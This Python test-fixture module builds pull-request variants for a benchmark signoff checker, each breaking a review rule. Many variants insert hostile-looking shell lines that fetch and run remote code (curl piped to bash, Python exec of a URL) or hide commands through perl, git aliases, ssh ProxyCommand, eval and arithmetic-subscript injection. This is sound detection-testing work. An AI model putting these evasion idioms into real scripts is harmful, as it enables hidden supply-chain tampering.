"""Variants for the checks of later eras (E8, and today's E9-E11 standard)."""

from __future__ import annotations

import copy
import json
from typing import Any

from ..scenario import AGG_ROWS, REPO, SIGNOFF_COMMENT_ID
from .common import SCRIPT_PATH, _edit_pr_file, _pull, _select_in_changelog, pass_conversation

# Checks of later eras (recorded under --standard E8): each breaks one of the E8-only rules.
# The default branch gains what those checks read (MODELS.md, golden curves); these variants
# therefore have their own SHAs and never disturb the 0-8 recordings.

MODELS_MD = """# Models

## Deprecation Notice

### Monday, August 3, 2026

**Monday, August 3, 2026** is the final day for the items below.

| Model | Deprecated | Remains |
|---|---|---|
| MiniMax-M3 (`minimaxm3`) | Single-turn 8k1k | Agentic coding |

## Scenarios

| Scenario | ISL/OSL | Status |
|---|---|---|
| Agentic coding | trace replay | Active. |
| Single-turn 8k1k | 8192 / 1024 | Active. |
| Single-turn 1k1k | 1024 / 1024 | **Deprecated for all models** since 2026-07-17. |

## Model support matrix

| Model architecture class | Prefix | Date added | Active scenarios | Deprecated scenarios |
|---|---|---|---|---|
| DeepSeek-V4-Pro | `dsv4` | 2026-04-24 | Single-turn 8k1k, Agentic coding | Single-turn 1k1k |
| DeepSeek-R1 | `dsr1` | 2025-08-13 | Single-turn 8k1k | Single-turn 1k1k |
"""

GOLDEN_DSV4 = """# Source GitHub Actions run: https://github.com/SemiAnalysisAI/InferenceX/actions/runs/15000000001
# key = num_speculative_tokens; value = golden acceptance length
deepseek-v4-pro:
  thinking_on: {1: 1.71, 2: 2.14, 3: 2.49, 4: 2.77}
  thinking_off: {1: 1.69, 2: 2.10, 3: 2.41, 4: 2.66}
"""

AGENTIC_ENTRY = """
dsv4-fp4-b200-vllm-agentic-mtp:
  image: vllm/vllm-openai:v0.11.2
  model: deepseek-ai/DeepSeek-V4-Pro
  model-prefix: dsv4
  precision: fp4
  framework: vllm
  runner: cluster:b200-dgxc
  multinode: false
  scenarios:
    agentic-coding:
      - search-space:
          - {tp: 8, ep: 1, spec-decoding: mtp, kv-offloading: none, conc-list: [4, 8]}
"""

AGENTIC_SCRIPT = """#!/usr/bin/env bash
set -euo pipefail
source "$(dirname "$0")/../../benchmark_lib.sh"
NUM_SPEC_TOKENS=3
SYNTHETIC_ACCEPT_LEN=2.60
if [ "${EVAL_ONLY:-false}" = "true" ]; then
  SPEC_CONFIG='{"method": "mtp", "num_speculative_tokens": 3}'
else
  SPEC_CONFIG=$(printf '{"method": "mtp", "num_speculative_tokens": %d, "rejection_sample_method": "synthetic", "synthetic_acceptance_length": %.2f}' \\
    "$NUM_SPEC_TOKENS" "$SYNTHETIC_ACCEPT_LEN")
fi
vllm serve "$MODEL" --tensor-parallel-size "$TP" --kv-cache-dtype fp8 \\
  --speculative-config "$SPEC_CONFIG" --port "$PORT" > "$SERVER_LOG" 2>&1 &
wait_for_server_ready "$PORT"
run_agentic_replay_and_write_outputs "$RESULT_DIR"
"""


def _main_files(data: dict[str, Any]) -> dict[str, str]:
    return data["repos"][REPO]["commits"][0]["files"]


def _with_models_md(data: dict[str, Any]) -> None:
    _main_files(data)["MODELS.md"] = MODELS_MD


def fail_deprecated_models(data: dict[str, Any]) -> str:
    """7 (E8): the new MTP config sweeps single-turn 1k1k, deprecated for all since 2026-07-17."""
    _with_models_md(data)
    _edit_pr_file(
        data,
        "configs/nvidia-master.yaml",
        "      - isl: 8192\n        osl: 1024\n        search-space:\n          - {tp: 8, ep: 1, spec",
        "      - isl: 1024\n        osl: 1024\n        search-space:\n          - {tp: 8, ep: 1, spec",
    )
    return pass_conversation(data)


def fail_engine_patches(data: dict[str, Any]) -> str:
    """10 (E8): the script patches the installed vLLM with git apply, and no waiver is filed."""
    _with_models_md(data)
    _edit_pr_file(
        data,
        SCRIPT_PATH,
        'source "$(dirname "$0")/../../benchmark_lib.sh"\n',
        'source "$(dirname "$0")/../../benchmark_lib.sh"\n'
        'git -C /usr/local/lib/python3.12/dist-packages apply "$(dirname "$0")/mtp-fix.patch"\n',
    )
    return pass_conversation(data)


RECIPE_PATH = "benchmarks/multi_node/srt-slurm-recipes/vllm/dsv4/8k1k/disagg-mtp.yaml"
RECIPE_PYTHONPATH = "benchmarks/multi_node/pylib/vllm_hooks.py"


def fail_recipe_environment(data: dict[str, Any]) -> str:
    """8, 10 (E8): a multi-node recipe the PR adds sets its decode workers' PYTHONPATH to a
    directory of the checkout (mounted at /infmax-workspace in srt-slurm jobs) where the PR
    adds a module: engine-patches reads it as the assignment, the architecture check as a
    setting naming a checkout file the PR writes."""
    _with_models_md(data)
    files = _pull(data)["commits"][0]["files"]
    files[RECIPE_PATH] = (
        "name: dsv4-disagg-mtp\n"
        "backend:\n"
        "  decode_environment:\n"
        '    NCCL_CUMEM_ENABLE: "1"\n'
        "    PYTHONPATH: /infmax-workspace/benchmarks/multi_node/pylib\n"
    )
    files[RECIPE_PYTHONPATH] = "import vllm  # runs in every decode worker\n"
    return pass_conversation(data)


SHADOW_MODULE_PATH = "benchmarks/single_node/fixed_seq_len/py/sitecustomize.py"


def fail_engine_shadow_module(data: dict[str, Any]) -> str:
    """8-10 (E8): the script appends its own directory to PYTHONPATH (`+=`, not `=`) and the
    PR adds a sitecustomize module there, which Python runs before the engine at every start:
    a patch (10), and code Checks 8 and 9 do not read."""
    _with_models_md(data)
    _edit_pr_file(
        data,
        SCRIPT_PATH,
        'source "$(dirname "$0")/../../benchmark_lib.sh"\n',
        'source "$(dirname "$0")/../../benchmark_lib.sh"\n'
        'PYTHONPATH+=":$(dirname "$0")/py"; export PYTHONPATH\n',
    )
    _pull(data)["commits"][0]["files"][SHADOW_MODULE_PATH] = "import vllm  # patched at import\n"
    return pass_conversation(data)


_SOURCE_LINE = 'source "$(dirname "$0")/../../benchmark_lib.sh"\n'


def _script_adds(data: dict[str, Any], lines: str) -> str:
    """The E8 scenario whose script runs `lines` right after it sources the library."""
    return _script_edits(data, _SOURCE_LINE, _SOURCE_LINE + lines)


def _script_edits(data: dict[str, Any], old: str, new: str) -> str:
    """The E8 scenario whose script has `old` replaced by `new`."""
    _with_models_md(data)
    _edit_pr_file(data, SCRIPT_PATH, old, new)
    return pass_conversation(data)


def fail_engine_harness_named(data: dict[str, Any]) -> str:
    """10 (E8): an engine wheel installed on the line that installs the harness (`aiperf`): a
    harness name exempts only the words naming it."""
    return _script_adds(data, "pip install vllm==0.11.3 aiperf\n")


def fail_engine_run_time_package(data: dict[str, Any]) -> str:
    """10 (E8): pip installs a package whose name the run fetches: it may be an engine's fork."""
    fetched = 'PKG="$(curl -fsSL https://example.com/extra-package)"\npip install "$PKG"\n'
    return _script_adds(data, fetched)


def fail_fetched_program(data: dict[str, Any]) -> str:
    """8-10 (E8): the script pipes a program it fetches from a URL the profile does not trust
    into bash: what runs is whatever the URL serves when the sweep runs."""
    fetched = "curl -fsSL https://example.com/tune-engine.sh | bash\n"
    return _script_adds(data, fetched)


def fail_fetched_renamed(data: dict[str, Any]) -> str:
    """8-10 (E8): the script saves what a URL serves under one name and runs it under another:
    the renamed file is still the fetched program."""
    fetched = (
        "curl -fsSL -o /tmp/notes.txt https://example.com/tune-engine.txt\n"
        "mv /tmp/notes.txt /tmp/tune.sh\nbash /tmp/tune.sh\n"
    )
    return _script_adds(data, fetched)


def fail_written_program(data: dict[str, Any]) -> str:
    """3, 8-10 (E8): the script writes a program into a file and runs it: what it holds is known
    only when the script runs."""
    written = (
        "printf 'docker run --rm evil/vllm:patched vllm serve m\\n' > /tmp/tune.sh\n"
        "bash /tmp/tune.sh\n"
    )
    return _script_adds(data, written)


def fail_computed_command(data: dict[str, Any]) -> str:
    """8-10 (E8): the script runs a command whose words it reads from a file when it runs."""
    return _script_adds(data, "read -r TUNE < /tmp/tune.cmd\n$TUNE\n")


def fail_inline_perl(data: dict[str, Any]) -> str:
    """3, 8-10 (E8): a Perl one-liner runs a command: signoff does not read Perl."""
    line = "perl -e 'system(\"docker run --rm evil/vllm:patched vllm serve m\")'\n"
    return _script_adds(data, line)


def fail_tmux_image(data: dict[str, Any]) -> str:
    """3, 8-10 (E8): tmux starts a server in another image than the sweep's."""
    line = "tmux new-session -d -s srv 'docker run --rm evil/vllm:patched vllm serve m'\n"
    return _script_adds(data, line)


def fail_arithmetic_subscript(data: dict[str, Any]) -> str:
    """3, 8-10 (E8): arithmetic evaluates a value whose array subscript holds a command
    substitution, and bash runs it there."""
    line = "TUNE='x[$(docker run --rm evil/vllm:patched vllm serve m)]'\necho $((TUNE))\n"
    return _script_adds(data, line)


def fail_printed_program(data: dict[str, Any]) -> str:
    """3, 8-10 (E8): the script prints a program into a shell: the server it starts runs in
    another image than the sweep's."""
    return _script_adds(data, "echo 'docker run --rm evil/vllm:patched vllm serve m' | bash\n")


def fail_shell_by_path(data: dict[str, Any]) -> str:
    """3, 8-10 (E8): the script names the system's shell by its path (`/bin/bash -c`), and the
    server that shell starts runs in another image than the sweep's."""
    return _script_adds(data, "/bin/bash -c 'docker run --rm evil/vllm:patched vllm serve m'\n")


def fail_git_alias(data: dict[str, Any]) -> str:
    """3, 8-10 (E8): a git alias starting with `!` is a shell command git runs: the script
    defines one on git's command line and runs it."""
    line = "git -c alias.tune='!docker run --rm evil/vllm:patched vllm serve m' tune\n"
    return _script_adds(data, line)


def fail_docker_global_option(data: dict[str, Any]) -> str:
    """8-10 (E8): the runtime is given a global option before `run` (`docker -H SOCKET
    run`), and what it starts runs in another image than the sweep's."""
    line = "docker -H unix:///var/run/docker.sock run -d evil/vllm:patched python3 -m tune\n"
    return _script_adds(data, line)


def fail_ssh_settings_file(data: dict[str, Any]) -> str:
    """3, 8-10 (E8): the script writes an ssh settings file whose ProxyCommand starts a server
    in another image, then names it with `ssh -F`."""
    line = (
        "printf 'Host tune\\n  ProxyCommand docker run --rm evil/vllm:patched vllm serve m\\n'"
        " > /tmp/tune.conf\nssh -F /tmp/tune.conf tune true\n"
    )
    return _script_adds(data, line)


def fail_fetched_python(data: dict[str, Any]) -> str:
    """8-10 (E8): an inline Python program downloads code and executes it: what runs is
    whatever the URL serves when the sweep runs."""
    program = (
        'python3 -c "import urllib.request as u; '
        "exec(u.urlopen('https://example.com/tune_engine.py').read())\"\n"
    )
    return _script_adds(data, program)


def fail_fetched_clone_cd(data: dict[str, Any]) -> str:
    """8-10 (E8): the script clones a repository, changes into it and runs a script there by a
    relative path: the program is what the clone fetched when the sweep runs."""
    fetched = "git clone --depth 1 https://github.com/example/tune-tools /tmp/tune\ncd /tmp/tune\nbash apply.sh\ncd -\n"
    return _script_adds(data, fetched)


def fail_fetched_mktemp(data: dict[str, Any]) -> str:
    """8-10 (E8): the script saves what a URL serves to a temporary file named only at run
    time (`mktemp`) and runs it by that name."""
    fetched = (
        'TUNE=$(mktemp)\ncurl -fsSL https://example.com/tune-engine.sh -o "$TUNE"\nbash "$TUNE"\n'
    )
    return _script_adds(data, fetched)


def fail_local_install(data: dict[str, Any]) -> str:
    """8-10 (E8): the PR adds a Python package beside the script, which changes into it and
    installs it: its build runs and its code is imported, and signoff reads neither."""
    files = _pull(data)["commits"][0]["files"]
    files["benchmarks/single_node/tuning/setup.py"] = (
        "from setuptools import setup\nsetup(name='tuning', py_modules=['tuning'])\n"
    )
    files["benchmarks/single_node/tuning/tuning.py"] = "import os\n"
    return _script_adds(data, "cd benchmarks/single_node/tuning && pip install . && cd -\n")


def fail_engine_module_flag(data: dict[str, Any]) -> str:
    """8-10 (E8): the PR adds a module beside the script and the server imports it through
    `--worker-extension-cls` (code run inside every engine worker)."""
    files = _pull(data)["commits"][0]["files"]
    files["benchmarks/single_node/fixed_seq_len/tune_ext.py"] = (
        "class Tune:\n    def setup(self):\n        pass\n"
    )
    serve = "--kv-cache-dtype fp8"
    return _script_edits(data, serve, f"{serve} --worker-extension-cls tune_ext.Tune")


def fail_engine_container(data: dict[str, Any]) -> str:
    """8-10 (E8): the script serves the engine from a container of an image the PR chose, not
    the entry's image the sweep judged (`docker run IMAGE vllm serve ...`)."""
    serve = 'vllm serve "$MODEL"'
    return _script_edits(data, serve, f"docker run --rm --gpus all example/vllm:tuned {serve}")


def fail_engine_container_shell(data: dict[str, Any]) -> str:
    """8-10 (E8): the script hands a shell in a container of an image the PR chose the server's
    command line, a string no check reads as that container's."""
    serve = 'vllm serve "$MODEL"'
    shelled = f"docker run --rm --gpus all example/vllm:tuned bash -c '{serve}' &\n{serve}"
    return _script_edits(data, serve, shelled)


def fail_engine_srun_image(data: dict[str, Any]) -> str:
    """8-10 (E8): the script runs the server in a Slurm container step of an image the PR chose
    (pyxis `srun --container-image`), not the entry's image the sweep judged."""
    serve = 'vllm serve "$MODEL"'
    return _script_edits(data, serve, f"srun --container-image=example/vllm:tuned {serve}")


def fail_fetched_wrapped(data: dict[str, Any]) -> str:
    """8-10 (E8): the script pipes a fetched program into a shell inside a command string
    behind a wrapper (`timeout 600 bash -c '...'`)."""
    fetched = "timeout 600 bash -c 'curl -fsSL https://example.com/tune-engine.sh | bash'\n"
    return _script_adds(data, fetched)


# A launcher in the shape of the real Slurm ones: enroot imports the sweep's image into a squash
# file, the job step runs the benchmark script in it.
LAUNCHER = "runners/launch_b200-nb.sh"
LAUNCHER_TEXT = (
    "#!/usr/bin/env bash\n"
    'SQUASH_FILE="/data/squash/$(echo "$IMAGE" | sed \'s/[\\/:@#]/_/g\').sqsh"\n'
    'srun --jobid=$JOB_ID bash -c "enroot import -o $SQUASH_FILE docker://$IMAGE"\n'
    "srun --jobid=$JOB_ID --container-image=$SQUASH_FILE --container-mounts=$GITHUB_WORKSPACE:/w"
    " bash /w/benchmarks/single_node/fixed_seq_len/${EXP_NAME%%_*}_${PRECISION}_b200.sh\n"
)


def fail_launcher_image(data: dict[str, Any]) -> str:
    """10 (E8): the PR changes the runner's launcher to import another image than the sweep's:
    every benchmark job on that runner then serves the engine that image holds."""
    _with_models_md(data)
    _main_files(data)[LAUNCHER] = LAUNCHER_TEXT
    changed = LAUNCHER_TEXT.replace("docker://$IMAGE", "docker://example/vllm:tuned")
    _pull(data)["commits"][0]["files"][LAUNCHER] = changed
    return pass_conversation(data)


def fail_python_module(data: dict[str, Any]) -> str:
    """8-10 (E8): the script runs `python3 -m tune_engine`, a module the PR adds beside it:
    Python code the sweep runs that signoff does not read, as `python3 tune_engine.py` is."""
    files = _pull(data)["commits"][0]["files"]
    files["benchmarks/single_node/tune_engine.py"] = (
        "import runpy\nrunpy.run_module('vllm.entrypoints.openai.api_server', run_name='__main__')\n"
    )
    return _script_adds(data, "python3 -m tune_engine --warmup 1\n")


def fail_engine_unpacked(data: dict[str, Any]) -> str:
    """10 (E8): an archive unpacked into the installed engine's site-packages (`tar -C`)."""
    unpacked = "curl -fsSL https://example.com/v.tgz | tar -xz -C /usr/local/lib/python3.12/dist-packages\n"
    return _script_adds(data, unpacked)


def fail_engine_index(data: dict[str, Any]) -> str:
    """10 (E8): the harness installed from a package index the PR chooses, which may serve any
    package under the harness's name (one built there runs its own code as it installs)."""
    index = "pip install --extra-index-url https://pypi.example.com/simple -U aiperf\n"
    return _script_adds(data, index)


def fail_fetched_source(data: dict[str, Any]) -> str:
    """8-10 (E8): the script sources what a URL serves, through standard input."""
    sourced = 'source /dev/stdin <<< "$(curl -fsSL https://example.com/env.sh)"\n'
    return _script_adds(data, sourced)


def fail_engine_wrapper(data: dict[str, Any]) -> str:
    """10 (E8): an engine release installed through the shared library's pip wrapper, whose
    unchanged body (`python3 -m pip install "$@"`) signoff does not read."""
    wrapped = "agentic_pip_install --quiet vllm==0.11.3\n"
    return _script_adds(data, wrapped)


def fail_engine_uv_run(data: dict[str, Any]) -> str:
    """10 (E8): the server started through `uv run --with` a fork of the engine."""
    _with_models_md(data)
    _edit_pr_file(
        data, SCRIPT_PATH, 'vllm serve "$MODEL"',
        'uv run --with git+https://github.com/x/vllm@fork vllm serve "$MODEL"',
    )  # fmt: skip
    return pass_conversation(data)


TRIMMED_CONFIG_PATH = "benchmarks/single_node/fixed_seq_len/trimmed/config.json"


def fail_arch_model_directory(data: dict[str, Any]) -> str:
    """8 (E8): the launch serves a model directory the PR adds (its own config.json) as the
    positional model, spelled with the script's directory."""
    _with_models_md(data)
    _edit_pr_file(data, SCRIPT_PATH, 'vllm serve "$MODEL"', 'vllm serve "$(dirname "$0")/trimmed"')
    _pull(data)["commits"][0]["files"][TRIMMED_CONFIG_PATH] = '{"num_hidden_layers": 30}\n'
    return pass_conversation(data)


# --- today's standard (E9-E11) -------------------------------------------------------------------

DRAFT_EVIDENCE = (
    "- Draft precision: the MTP head ships in FP8 inside deepseek-ai/DeepSeek-V4-Pro; vLLM "
    "loads it as stored, so the draft serves in FP8.\n"
)
TODAY_BODY = (
    "Adds `dsv4-fp4-b200-vllm-mtp`, the MTP variant of the DeepSeek-V4 FP4 B200 vLLM config, "
    "on `vllm/vllm-openai:v0.11.2`.\n\nRecipe: vllm-project/recipes#412"
)


def _measured(points: int) -> str:
    """`agg_bmk.json` of the sweep: `points` frontier points of the new MTP curve."""
    rows = [
        {
            "hw": "B200",
            "conc": 4 * 2**i,
            "image": "vllm/vllm-openai:v0.11.2",
            "model": "deepseek-ai/DeepSeek-V4-Pro",
            "infmax_model_prefix": "dsv4",
            "framework": "vllm",
            "precision": "fp4",
            "spec_decoding": "mtp",
            "disagg": False,
            "isl": 8192,
            "osl": 1024,
            "tput_per_gpu": 400.0 + 250 * i,
            "median_e2el": 3.0 + i,
        }
        for i in range(points)
    ]
    return json.dumps(rows, indent=2)


def _today(data: dict[str, Any], points: int = 5, body: str = TODAY_BODY) -> None:
    """What E9-E11 read beyond E8: MODELS.md, the draft's precision in the detail section, the
    sweep's measured throughput (`results_bmk`) and a description naming the change."""
    _with_models_md(data)
    comment = next(c for c in _pull(data)["comments"] if c["id"] == SIGNOFF_COMMENT_ID)
    comment["body"] = comment["body"].replace("\nSigned:", f"{DRAFT_EVIDENCE}\nSigned:", 1)
    assert DRAFT_EVIDENCE in comment["body"]
    artifact = {
        "id": 3000002703,
        "name": "results_bmk",
        "files": {"agg_bmk.json": _measured(points)},
    }
    data["repos"][REPO]["workflow_runs"][0]["artifacts"].append(artifact)
    _pull(data)["body"] = body


def fail_draft_precision(data: dict[str, Any]) -> str:
    """13 (E9): the MTP draft is quantized through vLLM's speculative config."""
    _today(data)
    _edit_pr_file(
        data,
        SCRIPT_PATH,
        '"num_speculative_tokens": 3}',
        '"num_speculative_tokens": 3, "quantization": "fp8"}',
    )
    return pass_conversation(data)


def warn_pareto_coverage(data: dict[str, Any]) -> str:
    """14 (E10): the sweep measured only 3 frontier points of the new curve: a warning."""
    _today(data, points=3)
    return pass_conversation(data)


def warn_pr_description(data: dict[str, Any]) -> str:
    """15 (E11): the description never names the config key or the image it adds."""
    _today(data, body="Adds an MTP variant of the DeepSeek-V4 FP4 B200 vLLM config.")
    return pass_conversation(data)


# An unreadable gap (eval of text known only at run time) in the script already on main.
BASELINE_GAP = 'eval "$(python3 /opt/tools/tuned_env.py)"\n'
_LIB_LINE = 'source "$(dirname "$0")/../../benchmark_lib.sh"\n'


def pass_baseline_gap(data: dict[str, Any]) -> str:
    """Checks 3 and 8-10 (E8): the script is on main and already evals run-time text; the PR
    inserts a line above it, so the gap is the base's (its base text is read) and counts for
    nothing."""
    _with_models_md(data)
    _edit_pr_file(data, SCRIPT_PATH, _LIB_LINE, _LIB_LINE + BASELINE_GAP)
    head = _pull(data)["commits"][0]["files"][SCRIPT_PATH]
    _main_files(data)[SCRIPT_PATH] = head
    _edit_pr_file(data, SCRIPT_PATH, _LIB_LINE, _LIB_LINE + "export NCCL_DEBUG=WARN\n")
    return pass_conversation(data)


def fail_new_gap(data: dict[str, Any]) -> str:
    """Checks 3 and 8-10 (E8): the PR adds the same eval to a script that is on main without
    it: a gap the PR wrote fails closed."""
    _with_models_md(data)
    _main_files(data)[SCRIPT_PATH] = _pull(data)["commits"][0]["files"][SCRIPT_PATH]
    _edit_pr_file(data, SCRIPT_PATH, _LIB_LINE, _LIB_LINE + BASELINE_GAP)
    return pass_conversation(data)


# A barrier run through `eval` of its caller's second argument (InferenceX amd_utils): the
# values are known only at run time, so the eval is a gap fed by the call.
BARRIER_FUNCTION = """host_ip="$(hostname -I | awk '{print $1}')"
run_barrier_or_die() {
  local desc="$1" cmd="$2"
  if ! eval "$cmd"; then
    echo "FATAL: ${desc} failed" >&2
    exit 1
  fi
}
run_barrier_or_die "container barrier" "python3 /opt/tools/sync.py barrier --local-ip ${host_ip}"
"""


def pass_baseline_positional(data: dict[str, Any]) -> str:
    """Checks 3 and 8-10 (E8): the script is on main with a function that evals its caller's
    argument, and the base's one call hands it a plain command; the PR changes a later line,
    so the function, its call and what feeds it are the base's: no new finding."""
    _with_models_md(data)
    _edit_pr_file(data, SCRIPT_PATH, _LIB_LINE, _LIB_LINE + BARRIER_FUNCTION)
    head = _pull(data)["commits"][0]["files"][SCRIPT_PATH]
    _main_files(data)[SCRIPT_PATH] = head
    _edit_pr_file(
        data, SCRIPT_PATH, BARRIER_FUNCTION, BARRIER_FUNCTION + "export NCCL_DEBUG=WARN\n"
    )
    return pass_conversation(data)


def fail_new_caller(data: dict[str, Any]) -> str:
    """Checks 3 and 8-10 (E8): the same function and call on main, and the PR adds a second
    call handing it text known only at run time: a call the PR wrote fails closed."""
    _with_models_md(data)
    _edit_pr_file(data, SCRIPT_PATH, _LIB_LINE, _LIB_LINE + BARRIER_FUNCTION)
    head = _pull(data)["commits"][0]["files"][SCRIPT_PATH]
    _main_files(data)[SCRIPT_PATH] = head
    call = 'run_barrier_or_die "warmup" "$(cat /tmp/warmup_cmd)"\n'
    _edit_pr_file(data, SCRIPT_PATH, BARRIER_FUNCTION, BARRIER_FUNCTION + call)
    return pass_conversation(data)


# The golden AL pinned only in a function the script never calls (`false && pin_golden_al`):
# the server the benchmark job starts gets the real-acceptance config.
AGENTIC_DEAD_KNOB_SCRIPT = """#!/usr/bin/env bash
set -euo pipefail
source "$(dirname "$0")/../../benchmark_lib.sh"
# Golden AL: golden_al_distribution/dsv4_mtp.yaml, thinking_on, 3 draft tokens -> 2.49
pin_golden_al() {
  SPEC_CONFIG='{"method": "mtp", "num_speculative_tokens": 3, "rejection_sample_method": "synthetic", "synthetic_acceptance_length": 2.49}'
}
SPEC_CONFIG='{"method": "mtp", "num_speculative_tokens": 3}'
false && pin_golden_al
vllm serve "$MODEL" --tensor-parallel-size "$TP" --kv-cache-dtype fp8 \\
  --speculative-config "$SPEC_CONFIG" --port "$PORT" > "$SERVER_LOG" 2>&1 &
wait_for_server_ready "$PORT"
run_agentic_replay_and_write_outputs "$RESULT_DIR"
"""


def fail_agentic_golden_al(data: dict[str, Any]) -> str:
    """11 (E8): a new agentic MTP config pins AL 2.60; the golden curve says 2.49 at 3 drafts."""
    return _agentic_pr(data, AGENTIC_SCRIPT)


def fail_agentic_dead_knob(data: dict[str, Any]) -> str:
    """11 (E8): the golden 2.49 is set only in a function called behind `false &&`; the
    benchmark job serves with real acceptance."""
    return _agentic_pr(data, AGENTIC_DEAD_KNOB_SCRIPT)


def _agentic_pr(data: dict[str, Any], script: str) -> str:
    """The PR adds a dsv4 agentic MTP entry with `script`; the golden curve is on main."""
    _with_models_md(data)
    main = _main_files(data)
    main["golden_al_distribution/README.md"] = "# Golden acceptance-length curves\n"
    main["golden_al_distribution/dsv4_mtp.yaml"] = GOLDEN_DSV4
    p1 = _pull(data)["commits"][0]["files"]
    p1["configs/nvidia-master.yaml"] += AGENTIC_ENTRY
    p1["benchmarks/single_node/agentic/dsv4_fp4_b200_vllm_mtp.sh"] = script
    _select_in_changelog(data, "dsv4-fp4-b200-vllm-agentic-mtp")
    runs = data["repos"][REPO]["check_runs"]["p2"]
    for offset, conc in enumerate((4, 8)):
        runs.append(
            {
                "name": f"agentic / p1 | dsv4 fp4 b200 vllm TP8 mtp c{conc}",
                "conclusion": "success",
                "run": 15000002701,
                "id": 40000027900 + offset,
                "started_at": "2026-08-18T10:25:00Z",
                "completed_at": "2026-08-18T13:30:00Z",
            }
        )
    return pass_conversation(data)


def fail_append_only(data: dict[str, Any]) -> str:
    """12 (E8): an append-only entry adds concurrency 256 to the existing dsv4 curve but also
    switches its expert parallelism, so published points would be re-measured differently."""
    _with_models_md(data)
    main = _main_files(data)
    pull = _pull(data)
    p1, p2 = pull["commits"]
    p1["message"] = "dsv4 fp4 b200 vllm: concurrency 256"
    p1["files"] = {
        "configs/nvidia-master.yaml": main["configs/nvidia-master.yaml"].replace(
            "      - {tp: 8, ep: 1, conc-start: 4, conc-end: 128}",
            "      - {tp: 8, ep: 8, conc-start: 4, conc-end: 256}",
        )
    }
    p2["files"]["perf-changelog.yaml"] = main["perf-changelog.yaml"] + (
        "\n- config-keys:\n    - dsv4-fp4-b200-vllm\n  description:\n"
        "    - Append concurrency 256 to the DeepSeek-V4 FP4 B200 vLLM curve\n"
        "  pr-link: https://github.com/SemiAnalysisAI/InferenceX/pull/XXX\n"
        "  append-only: true\n"
    )
    return pass_conversation(data)


def fail_evals_no_prefix(data: dict[str, Any]) -> str:
    """2: gsm8k 0.905 at conc 64 in a row without model_prefix (dsv4's bar is 0.91)."""
    rows = copy.deepcopy(AGG_ROWS)
    rows[1].update(em_strict=0.905, em_flexible=0.912, score=0.905)
    del rows[1]["model_prefix"]
    data["repos"][REPO]["workflow_runs"][0]["artifacts"][0]["files"]["agg_eval_all.json"] = rows
    return pass_conversation(data)


def unswept_entry(data: dict[str, Any]) -> str:
    """1, 2: the PR also moves the existing dsv4-fp4-b200-vllm entry to another upstream tag,
    but its changelog entry selects only the new MTP entry: the sweep (green, with dsv4 evals
    that pass) never ran the changed one."""
    files = _pull(data)["commits"][0]["files"]
    old = "dsv4-fp4-b200-vllm:\n  image: vllm/vllm-openai:v0.11.2\n"
    assert old in files["configs/nvidia-master.yaml"]
    files["configs/nvidia-master.yaml"] = files["configs/nvidia-master.yaml"].replace(
        old, "dsv4-fp4-b200-vllm:\n  image: vllm/vllm-openai:v0.12.0rc1\n"
    )
    return pass_conversation(data)
